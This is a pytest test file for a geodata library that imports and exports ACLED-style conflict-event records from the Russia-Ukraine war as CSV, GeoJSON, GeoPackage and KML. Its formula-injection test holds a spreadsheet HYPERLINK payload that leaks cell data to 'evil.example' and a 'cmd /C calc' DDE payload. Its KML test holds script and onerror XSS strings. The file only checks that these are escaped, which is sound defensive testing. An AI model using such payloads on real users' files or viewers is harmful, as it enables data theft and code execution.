"""Event files: ACLED CSV exports, our CSV, GeoJSON, GeoPackage and KML, written as real files and read back."""

from __future__ import annotations

import csv
import html
import io
import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pandas as pd
import pyogrio
import pytest

from geodata.formats import FormatError, read_events, sniff, write_events
from geodata.formats.acled import read_acled_csv
from geodata.formats.geo import KML_NS, read_geojson
from geodata.formats.tabular import read_csv
from geodata.schema import ACLED_COLUMNS, COLUMNS, coerce

PV, DEMO, SD = "Political violence", "Demonstrations", "Strategic developments"
RU_MIL, UA_MIL = "Military Forces of Russia (2000-)", "Military Forces of Ukraine (2019-)"
UA_CIV = "Civilians (Ukraine)"

# (id, date, disorder, type, sub-type, actor1, inter1, actor2, inter2, interaction, civilian targeting,
#  iso, country, admin1, admin2, location, lat, lon, geo precision, source, notes, fatalities)
ACLED_EVENTS = [
    ("UKR180001", "2024-10-18", PV, "Explosions/Remote violence", "Shelling/artillery/missile attack", RU_MIL,
     "State forces", UA_CIV, "Civilians", "State forces-Civilians", "Civilian targeting", 804, "Ukraine",
     "Kharkivska", "Kharkivskyi", "Kharkiv", 49.9935, 36.2304, 1, "Suspilne; Ukrainska Pravda",
     "On 18 October 2024, Russian forces shelled a residential area of Kharkiv city, injuring 3 civilians.", 0),
    ("UKR180002", "17 October 2024", PV, "Battles", "Armed clash", RU_MIL, "State forces", UA_MIL,
     "State forces", "State forces-State forces", "", 804, "Ukraine", "Donetska", "Pokrovskyi", "Pokrovsk",
     48.2820, 37.1750, 2, "Ministry of Defence of Ukraine",
     "On 17 October 2024, Russian and Ukrainian forces clashed near Pokrovsk. Casualties unknown.", 0),
    ("UKR180003", "2024-10-16", PV, "Explosions/Remote violence", "Air/drone strike", RU_MIL, "State forces",
     "", "", "State forces only", "", 804, "Ukraine", "Odeska", "Odeskyi", "Odesa", 46.4825, 30.7233, 1,
     "Odesa Regional Military Administration",
     'On 16 October 2024, Russian forces launched "Shahed" drones at Odesa port, damaging grain silos, '
     "a warehouse and a vessel; no casualties.", 0),
    ("UKR180004", "2024-10-15", PV, "Explosions/Remote violence", "Air/drone strike", RU_MIL, "State forces",
     UA_CIV, "Civilians", "State forces-Civilians", "Civilian targeting", 804, "Ukraine", "Kyiv City", "",
     "Kyiv", 50.4501, 30.5234, 1, "Kyiv City Military Administration",
     "On 15 October 2024, debris of a downed Russian drone hit a house in Kyiv, killing 2 civilians.", 2),
    ("UKR180005", "2024-10-14", PV, "Explosions/Remote violence", "Shelling/artillery/missile attack", RU_MIL,
     "State forces", UA_CIV, "Civilians", "State forces-Civilians", "Civilian targeting", 804, "Ukraine",
     "Zaporizka", "Zaporizkyi", "Zaporizhzhia", 47.8388, 35.1396, 1, "Suspilne",
     "On 14 October 2024, Russian forces shelled Zaporizhzhia city.\nA 60-year-old woman was injured.", 0),
    ("UKR180006", "2024-10-13", PV, "Explosions/Remote violence", "Remote explosive/landmine/IED",
     "Unidentified Armed Group (Ukraine)", "Political militia", UA_CIV, "Civilians",
     "Political militia-Civilians", "Civilian targeting", 804, "Ukraine", "Dnipropetrovska", "Dniprovskyi",
     "Dnipro", 48.4647, 35.0462, 1, "Dnipro Oblast Police", "On 13 October 2024, an IED exploded in Dnipro.", 1),
    ("UKR180007", "2024-10-12", PV, "Violence against civilians", "Attack", RU_MIL, "State forces", UA_CIV,
     "Civilians", "State forces-Civilians", "Civilian targeting", 804, "Ukraine", "Khersonska", "Khersonskyi",
     "Kherson", 46.6354, 32.6169, 1, "Kherson Regional Military Administration",
     "On 12 October 2024, a Russian drone dropped explosives on a civilian car in Kherson, killing 1 man.", 1),
    ("UKR180008", "2024-10-11", DEMO, "Protests", "Peaceful protest", "Protesters (Ukraine)", "Protesters", "",
     "", "Protesters only", "", 804, "Ukraine", "Lvivska", "Lvivskyi", "Lviv", 49.8397, 24.0297, 1,
     "Zaxid.net", "On 11 October 2024, relatives of POWs rallied in Lviv demanding prisoner exchanges.", 0),
    ("UKR180009", "2024-10-10", PV, "Explosions/Remote violence", "Shelling/artillery/missile attack", RU_MIL,
     "State forces", "", "", "State forces only", "", 804, "Ukraine", "Sumska", "Sumskyi", "Sumy", 50.9077,
     34.7981, 2, "Sumy Regional Military Administration",
     "On 10 October 2024, Russian forces shelled the outskirts of Sumy.", 0),
    ("UKR180010", "2024-10-09", SD, "Strategic developments", "Disrupted weapons use", UA_MIL, "State forces",
     "", "", "State forces only", "", 804, "Ukraine", "Chernihivska", "Chernihivskyi", "Chernihiv", 51.4982,
     31.2893, 1, "Ukrainian Air Force", "On 9 October 2024, air defence shot down 5 drones over Chernihiv.", 0),
    ("UKR180011", "2024-10-08", SD, "Strategic developments", "Arrests", "Police Forces of Ukraine (2019-)",
     "State forces", "", "", "State forces only", "", 804, "Ukraine", "Mykolaivska", "Mykolaivskyi",
     "Mykolaiv", 46.9750, 31.9946, 1, "SBU", "On 8 October 2024, the SBU detained a suspected spotter.", 0),
    ("UKR180012", "2024-10-07", PV, "Battles", "Armed clash", RU_MIL, "State forces", UA_MIL, "State forces",
     "State forces-State forces", "", 804, "Ukraine", "Kharkivska", "Kupianskyi", "Kupiansk", 49.7106, 37.6160,
     2, "General Staff of the Armed Forces of Ukraine", "On 7 October 2024, fighting near Kupiansk.", 3),
    ("UKR180013", "2024-10-06", PV, "Battles", "Armed clash", RU_MIL, "State forces", UA_MIL, "State forces",
     "State forces-State forces", "", 804, "Ukraine", "Donetska", "Bakhmutskyi", "Toretsk", 48.3977, 37.8477, 2,
     "DeepState", "On 6 October 2024, clashes in Toretsk.", 0),
    ("RUS40001", "2024-10-05", PV, "Explosions/Remote violence", "Air/drone strike", UA_MIL, "State forces", "",
     "", "State forces only", "", 643, "Russia", "Belgorod", "Belgorodskiy", "Belgorod", 50.5997, 36.5983, 1,
     "Belgorod Governor", "On 5 October 2024, Ukrainian drones struck Belgorod, damaging a substation.", 0),
    ("RUS40002", "2024-10-04", PV, "Battles", "Armed clash", UA_MIL, "State forces", RU_MIL, "State forces",
     "State forces-State forces", "", 643, "Russia", "Kursk", "Sudzhanskiy", "Sudzha", 51.1926, 35.2707, 2,
     "Ministry of Defence of Russia", "On 4 October 2024, clashes continued around Sudzha.", 5),
    ("RUS40003", "2024-10-03", DEMO, "Protests", "Protest with intervention", "Protesters (Russia)",
     "Protesters", "Police Forces of Russia (2000-)", "State forces", "State forces-Protesters", "", 643,
     "Russia", "Moscow", "", "Moscow", 55.7558, 37.6173, 1, "OVD-Info",
     "On 3 October 2024, police detained 4 people at a picket in Moscow.", 0),
    ("RUS40004", "2024-10-02", SD, "Strategic developments", "Disrupted weapons use", RU_MIL, "State forces",
     "", "", "State forces only", "", 643, "Russia", "Bryansk", "Bryanskiy", "Bryansk", 53.2521, 34.3717, 1,
     "Ministry of Defence of Russia", "On 2 October 2024, air defence intercepted drones over Bryansk.", 0),
    ("RUS40005", "2024-10-01", PV, "Explosions/Remote violence", "Air/drone strike", UA_MIL, "State forces",
     "", "", "State forces only", "", 643, "Russia", "Krasnodar", "Novorossiyskiy", "Novorossiysk", 44.7239,
     37.7688, 1, "Krasnodar Krai Operational HQ", "On 1 October 2024, naval drones attacked Novorossiysk.", 0),
    ("RUS40006", "30 September 2024", SD, "Strategic developments", "Arrests", "Police Forces of Russia (2000-)",
     "State forces", "", "", "State forces only", "", 643, "Russia", "Saint Petersburg", "", "Saint Petersburg",
     59.9386, 30.3141, 1, "Fontanka", "On 30 September 2024, police arrested an anti-war activist.", 0),
    ("UKR180014", "2024-09-29", PV, "Violence against civilians", "Abduction/forced disappearance", RU_MIL,
     "State forces", UA_CIV, "Civilians", "State forces-Civilians", "Civilian targeting", 804, "Ukraine",
     "Zaporizka", "Melitopolskyi", "Melitopol", 46.8489, 35.3653, 1, "RIA Melitopol",
     "On 29 September 2024, Russian forces abducted a teacher in Melitopol.", 0),
]

BAD_ROWS = {  # position among the data rows -> (row, expected reason fragment)
    10: (("UKR189001", "2024-19-40", PV, "Battles", "Armed clash", RU_MIL, "State forces", UA_MIL, "State forces",
          "State forces-State forces", "", 804, "Ukraine", "Donetska", "", "Kurakhove", 47.9833, 37.2833, 2, "X",
          "Bad date.", 0), "event_date: bad date '2024-19-40'"),
    16: (("UKR189002", "2024-10-01", PV, "Battles", "Armed clash", RU_MIL, "State forces", UA_MIL, "State forces",
          "State forces-State forces", "", 804, "Ukraine", "Donetska", "", "Vuhledar", 123, 37.2475, 2, "X",
          "Bad latitude.", 0), "latitude: latitude 123 outside [-90, 90]"),
    22: (("UKR189003", "2024-10-01", PV, "Skirmish", "Armed clash", RU_MIL, "State forces", UA_MIL,
          "State forces", "State forces-State forces", "", 804, "Ukraine", "Donetska", "", "Chasiv Yar", 48.5860,
          37.8350, 2, "X", "Unknown type.", 0), "event_type: unknown event_type 'Skirmish'"),
}


def acled_record(event: tuple) -> dict[str, object]:
    """One row of ACLED's 31 export columns."""
    (event_id, date, disorder, event_type, sub_type, actor1, inter1, actor2, inter2, interaction, civilian,
     iso, country, admin1, admin2, location, lat, lon, geo_precision, source, notes, fatalities) = event
    return {
        "event_id_cnty": event_id, "event_date": date, "year": 2024, "time_precision": 1,
        "disorder_type": disorder, "event_type": event_type, "sub_event_type": sub_type, "actor1": actor1,
        "assoc_actor_1": "", "inter1": inter1, "actor2": actor2, "assoc_actor_2": "", "inter2": inter2,
        "interaction": interaction, "civilian_targeting": civilian, "iso": iso, "region": "Europe",
        "country": country, "admin1": admin1, "admin2": admin2, "admin3": "", "location": location,
        "latitude": lat, "longitude": lon, "geo_precision": geo_precision, "source": source,
        "source_scale": "National", "notes": notes, "fatalities": fatalities,
        "tags": "crowd size=no report" if event_type == "Protests" else "", "timestamp": 1729533000,
    }


def write_acled(path: Path, events: list[tuple], columns: tuple[str, ...] = ACLED_COLUMNS) -> Path:
    with open(path, "w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(columns), extrasaction="ignore")
        writer.writeheader()
        for event in events:
            writer.writerow(acled_record(event))
    return path


@pytest.fixture
def acled_file(tmp_path: Path) -> Path:
    return write_acled(tmp_path / "acled_ukraine.csv", ACLED_EVENTS)


@pytest.fixture
def events(acled_file: Path) -> pd.DataFrame:
    return read_acled_csv(acled_file).df


def test_acled_import(acled_file: Path):
    result = read_acled_csv(acled_file)
    assert (result.taken, result.rejected, result.errors) == (20, 0, [])
    df = result.df.set_index("event_id")
    assert list(result.df.columns) == list(COLUMNS)
    kharkiv = df.loc["acled:UKR180001"]
    assert (kharkiv["location"], kharkiv["latitude"], kharkiv["longitude"]) == ("Kharkiv", 49.9935, 36.2304)
    assert kharkiv["event_date"] == pd.Timestamp("2024-10-18")
    assert (kharkiv["country_code"], kharkiv["date_precision"], kharkiv["modality"], kharkiv["origin"]) == (
        "UA", "day", "asserted", "imported")
    assert kharkiv["event_id_cnty"] == "UKR180001" and kharkiv["iso"] == 804 and kharkiv["timestamp"] == 1729533000
    assert df.loc["acled:UKR180002", "event_date"] == pd.Timestamp("2024-10-17")  # older "17 October 2024"
    assert df.loc["acled:RUS40006", "event_date"] == pd.Timestamp("2024-09-30")
    assert df.loc["acled:RUS40002", "country_code"] == "RU"
    assert df.loc["acled:UKR180004", "fatalities"] == 2
    assert df.loc["acled:UKR180005", "notes"].count("\n") == 1
    assert df.loc["acled:UKR180003", "notes"].startswith('On 16 October 2024, Russian forces launched "Shahed"')
    assert pd.isna(df.loc["acled:UKR180002", "civilian_targeting"])
    assert df["confidence"].isna().all()


def test_acled_round_trip_through_our_csv_and_acled_csv(tmp_path: Path, acled_file: Path):
    first = read_acled_csv(acled_file).df
    ours = tmp_path / "ours.csv"
    write_events(first, "csv", ours)
    assert sniff(ours) == "csv"
    again = read_events(ours)
    assert (again.taken, again.rejected) == (20, 0)
    pd.testing.assert_frame_equal(again.df, first)

    exported = tmp_path / "acled_again.csv"
    write_events(first, "acled", exported)
    with open(exported, newline="", encoding="utf-8") as handle:
        assert next(csv.reader(handle)) == list(ACLED_COLUMNS)
    assert sniff(exported) == "acled"
    pd.testing.assert_frame_equal(read_events(exported).df, first)


def test_acled_bad_rows_are_reported_by_line_and_skipped(tmp_path: Path):
    rows = list(ACLED_EVENTS)
    for position in sorted(BAD_ROWS):
        rows.insert(position, BAD_ROWS[position][0])
    path = write_acled(tmp_path / "with_bad_rows.csv", rows)
    result = read_acled_csv(path)
    assert (result.taken, result.rejected) == (20, 3)
    # header = line 1, data row i on line i + 2; the Zaporizhzhia note (row 4) spans two lines, so rows after it
    # start one line further down: row 10 on line 13
    assert [(e.line, e.reason) for e in result.errors] == [
        (13, BAD_ROWS[10][1] + ": expected YYYY-MM-DD or '18 October 2024'"),
        (19, BAD_ROWS[16][1]),
        (25, BAD_ROWS[22][1]),
    ]
    assert str(result.errors[0]).startswith("line 13: event_date: bad date")
    assert not result.df["location"].isin(["Kurakhove", "Vuhledar", "Chasiv Yar"]).any()
    assert result.df["event_id"].tolist() == read_acled_csv(write_acled(tmp_path / "good.csv", ACLED_EVENTS)
                                                           ).df["event_id"].tolist()


def test_acled_ragged_row_is_reported(tmp_path: Path, acled_file: Path):
    text = acled_file.read_text(encoding="utf-8").rstrip("\n") + "\nUKR1,2024-10-01,too,few\n"
    path = tmp_path / "ragged.csv"
    path.write_text(text, encoding="utf-8")
    result = read_acled_csv(path)
    assert (result.taken, result.rejected) == (20, 1)
    assert result.errors[0].line == 23 and "expected 31 fields" in result.errors[0].reason


def test_acled_file_missing_optional_columns_imports(tmp_path: Path):
    columns = ("event_date", "event_type", "sub_event_type", "actor1", "country", "location", "latitude",
               "longitude", "notes", "fatalities")
    path = write_acled(tmp_path / "slim.csv", ACLED_EVENTS[:5], columns=columns)
    result = read_events(path)
    assert (result.taken, result.rejected) == (5, 0)
    df = result.df
    assert df["country_code"].tolist() == ["UA"] * 5  # from the country name, without the iso column
    assert df["event_id"].str.fullmatch(r"[0-9a-f]{16}").all() and df["event_id"].is_unique
    assert df["date_precision"].eq("day").all() and df["event_id_cnty"].isna().all()
    assert read_events(path).df["event_id"].tolist() == df["event_id"].tolist()  # stable on re-import


def test_unreadable_files_raise_format_error_naming_the_file(tmp_path: Path):
    missing = tmp_path / "nowhere.csv"
    with pytest.raises(FormatError, match=r"nowhere\.csv: no such file"):
        read_acled_csv(missing)
    with pytest.raises(FormatError, match="nowhere.csv"):
        read_events(missing)

    binary = tmp_path / "export.csv"
    binary.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 4)
    with pytest.raises(FormatError, match=r"export\.csv: binary file"):
        read_acled_csv(binary)
    with pytest.raises(FormatError, match=r"export\.csv: binary file"):
        read_events(binary)

    unrelated = tmp_path / "people.csv"
    unrelated.write_text("name,age,city\nOlena,34,Kharkiv\n", encoding="utf-8")
    with pytest.raises(FormatError, match=r"people\.csv: not an ACLED export: missing column\(s\) event_date"):
        read_acled_csv(unrelated)
    with pytest.raises(FormatError, match=r"people\.csv: not an event file"):
        read_events(unrelated)

    empty = tmp_path / "empty.csv"
    empty.write_text("\n\n", encoding="utf-8")
    with pytest.raises(FormatError, match=r"empty\.csv: empty file"):
        read_acled_csv(empty)

    broken = tmp_path / "broken.geojson"
    broken.write_text('{"type": "FeatureCollection", "features": [', encoding="utf-8")
    with pytest.raises(FormatError, match=r"broken\.geojson: not GeoJSON"):
        read_events(broken)


def test_windows_1252_csv_is_read(tmp_path: Path):
    path = tmp_path / "excel.csv"
    path.write_bytes("event_date;event_type;latitude;longitude;location;notes\n"
                     "2024-10-18;Riots;48.8566;2.3522;Paris;Manifestation \u00e0 R\u00e9publique\n".encode("cp1252"))
    result = read_acled_csv(path)
    assert result.taken == 1 and result.df["notes"].iloc[0] == "Manifestation \u00e0 R\u00e9publique"


def injection_events() -> pd.DataFrame:
    notes = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
             "\tTabbed", "\rReturn", "Safe note about Dakar - calm"]
    return coerce(pd.DataFrame({
        "event_id": [f"inj{i}" for i in range(len(notes))], "event_date": "2024-10-18",
        "event_type": "Protests", "sub_event_type": "Peaceful protest", "actor1": "=Protesters",
        "location": "Dakar", "country": "Senegal", "latitude": 14.7167, "longitude": -17.4677,
        "fatalities": -0 + 0, "notes": notes, "origin": "extracted",
    }))


def test_formula_injection_is_neutralised_in_text_cells_only(tmp_path: Path):
    data = write_events(injection_events(), "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
    assert [row["notes"] for row in rows] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "'+cmd|' /C calc'!A0", "'-2+3", "'@SUM(A1:A9)",
        "'\tTabbed", "'\rReturn", "Safe note about Dakar - calm"]
    assert {row["actor1"] for row in rows} == {"'=Protesters"}
    assert {row["longitude"] for row in rows} == {"-17.4677"}  # numbers stay numbers
    assert {row["fatalities"] for row in rows} == {"0"}

    path = tmp_path / "injection.csv"
    path.write_bytes(data)
    back = read_csv(path).df
    assert back["longitude"].tolist() == [-17.4677] * 7
    assert back["notes"].iloc[2] == "'-2+3"  # documented: reading back keeps the quote


def test_geojson_round_trip(tmp_path: Path, events: pd.DataFrame):
    extra = coerce(pd.DataFrame({"event_id": ["nocoords"], "event_date": ["2024-10-20"],
                                 "event_type": ["Strategic developments"], "sub_event_type": ["Other"],
                                 "location": ["Unknown"], "confidence": [0.42], "modality": ["future"],
                                 "origin": ["extracted"], "published": ["2024-10-21"]}))
    frame = pd.concat([events, extra], ignore_index=True)
    frame = coerce(frame)
    path = tmp_path / "events.geojson"
    write_events(frame, "geojson", path)
    data = json.loads(path.read_text(encoding="utf-8"))
    assert data["type"] == "FeatureCollection" and len(data["features"]) == 21
    kharkiv = next(f for f in data["features"] if f["id"] == "acled:UKR180001")
    assert kharkiv["geometry"] == {"type": "Point", "coordinates": [36.2304, 49.9935]}
    assert kharkiv["properties"]["event_date"] == "2024-10-18" and kharkiv["properties"]["fatalities"] == 0
    assert data["features"][-1]["geometry"] is None
    assert sniff(path) == "geojson"
    result = read_events(path)
    assert (result.taken, result.rejected) == (21, 0)
    pd.testing.assert_frame_equal(result.df, frame)


def test_geojson_bad_features_reported_by_number(tmp_path: Path):
    features = [
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [36.2304, 49.9935]},
         "properties": {"event_date": "2024-10-18", "event_type": "Battles", "location": "Kharkiv"}},
        {"type": "Feature", "geometry": {"type": "LineString", "coordinates": [[0, 0], [1, 1]]},
         "properties": {"event_date": "2024-10-18", "event_type": "Battles"}},
        {"type": "Feature", "geometry": {"type": "Point", "coordinates": [36.2, 95.0]},
         "properties": {"event_date": "2024-10-18", "event_type": "Battles"}},
    ]
    path = tmp_path / "mixed.geojson"
    path.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    result = read_geojson(path)
    assert (result.taken, result.rejected) == (1, 2)
    assert [(e.feature, e.reason.split(":")[0]) for e in result.errors] == [(2, "geometry LineString not supported"),
                                                                          (3, "latitude")]
    assert str(result.errors[1]) == "feature 3: latitude: latitude 95.0 outside [-90, 90]"
    assert result.df["origin"].tolist() == ["imported"]


def test_geopackage_written_and_read_back(tmp_path: Path, events: pd.DataFrame):
    path = tmp_path / "events.gpkg"
    write_events(events, "gpkg", path)
    info = pyogrio.read_info(path, layer="events")
    assert info["features"] == 20
    assert info["crs"] == "EPSG:4326"
    assert info["geometry_type"] == "Point"
    types = dict(zip(info["fields"], info["ogr_types"], strict=False))
    assert types["event_date"] == "OFTDate" and types["published"] == "OFTDate"
    assert types["fatalities"] == "OFTInteger64" and types["latitude"] == "OFTReal"
    gdf = pyogrio.read_dataframe(path, layer="events")
    assert gdf.crs.to_epsg() == 4326
    kharkiv = gdf[gdf["event_id"] == "acled:UKR180001"].iloc[0]
    assert (kharkiv.geometry.x, kharkiv.geometry.y) == (36.2304, 49.9935)
    assert kharkiv["location"] == "Kharkiv" and kharkiv["actor1"] == RU_MIL
    assert int(gdf["fatalities"].sum()) == int(events["fatalities"].sum())
    assert sniff(path) == "gpkg"
    back = read_events(path)
    assert back.taken == 20
    pd.testing.assert_frame_equal(back.df, events)
    assert write_events(events, "gpkg")[:16] == b"SQLite format 3\x00"


def test_kml_has_one_escaped_placemark_per_event(tmp_path: Path, events: pd.DataFrame):
    frame = events.copy()
    frame["notes"] = frame["notes"].astype("str")
    frame.loc[0, "notes"] = 'Shelling reported <script>alert("x")</script> & more <img src=x onerror=alert(1)>'
    data = write_events(frame, "kml")
    assert b"<script>" not in data and b"&lt;script" not in data and b"&amp;lt;script&amp;gt;" in data
    root = ET.fromstring(data)
    ns = {"k": KML_NS}
    placemarks = root.findall("k:Document/k:Placemark", ns)
    assert len(placemarks) == 20
    first = placemarks[0]
    # Google Earth renders the description's text as HTML: after the XML parse it must be escaped HTML
    description = first.find("k:description", ns).text
    assert "<" not in description and "&lt;img src=x onerror=alert(1)&gt;" in description
    assert html.unescape(description) == frame.loc[0, "notes"]
    assert first.find("k:TimeStamp/k:when", ns).text == frame.loc[0, "event_date"].strftime("%Y-%m-%d")
    assert first.find("k:name", ns).text == f"{frame.loc[0, 'sub_event_type']}: {frame.loc[0, 'location']}"
    lon, lat = first.find("k:Point/k:coordinates", ns).text.split(",")
    assert (float(lon), float(lat)) == (frame.loc[0, "longitude"], frame.loc[0, "latitude"])
    data_fields = {d.get("name"): d.find("k:value", ns).text for d in first.findall("k:ExtendedData/k:Data", ns)}
    assert data_fields["event_id"] == frame.loc[0, "event_id"]
    path = tmp_path / "events.kml"
    write_events(frame, "kml", path)
    assert path.read_bytes() == data


def test_write_events_targets(tmp_path: Path, events: pd.DataFrame):
    as_bytes = write_events(events, "csv")
    buffer = io.BytesIO()
    assert write_events(events, "csv", buffer) is None
    assert buffer.getvalue() == as_bytes
    assert write_events(events, "csv", tmp_path / "x.csv") is None
    assert (tmp_path / "x.csv").read_bytes() == as_bytes
    assert as_bytes.decode("utf-8").splitlines()[0].split(",") == list(COLUMNS)
    with pytest.raises(ValueError, match="unknown format 'xlsx'"):
        write_events(events, "xlsx")
